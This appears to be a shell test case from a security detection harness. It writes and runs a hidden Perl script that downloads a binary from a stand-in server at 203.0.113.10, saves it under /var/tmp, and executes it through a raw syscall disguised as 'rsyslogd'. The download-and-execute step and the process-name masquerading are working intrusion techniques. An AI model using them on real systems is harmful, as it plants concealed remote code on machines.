#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.n.pl <<'END'
use IO::Socket::INET; my $s = IO::Socket::INET->new("203.0.113.10:80") or die; print $s "GET /programs/marker HTTP/1.0\r\n\r\n"; local $/; my (undef, $b) = split /\r\n\r\n/, <$s>, 2;
open(my $f, ">:raw", "/var/tmp/.rs") or die; print $f $b; close $f; chmod 0700, "/var/tmp/.rs";
my $nr = `uname -m` =~ /aarch64/ ? 221 : 59; my $p = "/var/tmp/.rs\0"; my $n = "rsyslogd\0"; my $v = pack("pQ", $n, 0); my $e = pack("Q", 0);
syscall($nr, $p, $v, $e); die $!;
END
perl /tmp/.n.pl
test -e /tmp/reached
took_place
